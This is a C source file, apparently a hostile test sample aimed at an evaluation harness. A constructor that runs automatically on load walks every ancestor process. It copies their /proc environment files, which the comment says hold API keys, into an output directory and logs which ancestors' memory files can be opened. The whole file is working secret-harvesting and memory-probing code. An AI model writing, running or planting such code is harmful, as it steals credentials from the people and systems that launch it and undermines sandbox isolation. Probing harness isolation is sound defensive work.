// Reads the process that started it: its environment (API keys) and its memory (where the
// references live) through /proc/<ppid>, and writes what it found out.
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void copy_out(const char *from, const char *to) {
    FILE *in = fopen(from, "rb");
    if (!in) return;
    mkdir(HOSTILE_OUT, 0755);
    FILE *out = fopen(to, "ab");
    char buf[65536];
    size_t n;
    while (out && (n = fread(buf, 1, sizeof buf, in)) > 0) fwrite(buf, 1, n, out);
    if (out) fclose(out);
    fclose(in);
}

__attribute__((constructor)) static void hostile_read_parent(void) {
    char path[64];
    for (pid_t p = getppid(); p > 1; ) {  // the whole chain of ancestors: the harness is one of them
        snprintf(path, sizeof path, "/proc/%d/environ", (int)p);
        copy_out(path, HOSTILE_OUT "/read_parent_memory.environ");
        char stat_path[64], line[512];
        snprintf(stat_path, sizeof stat_path, "/proc/%d/stat", (int)p);
        FILE *s = fopen(stat_path, "r");
        if (!s) break;
        int pp = 0;
        if (fgets(line, sizeof line, s)) sscanf(strrchr(line, ')') + 2, "%*c %d", &pp);
        fclose(s);
        char mem[64];
        snprintf(mem, sizeof mem, "/proc/%d/mem", (int)p);
        FILE *m = fopen(mem, "rb");
        if (m) {  // open(2) of /proc/<pid>/mem is where the kernel checks ptrace access
            fclose(m);
            FILE *ok = fopen(HOSTILE_OUT "/read_parent_memory.mem-readable", "a");
            if (ok) { fprintf(ok, "%d\n", (int)p); fclose(ok); }
        }
        p = pp;
    }
}
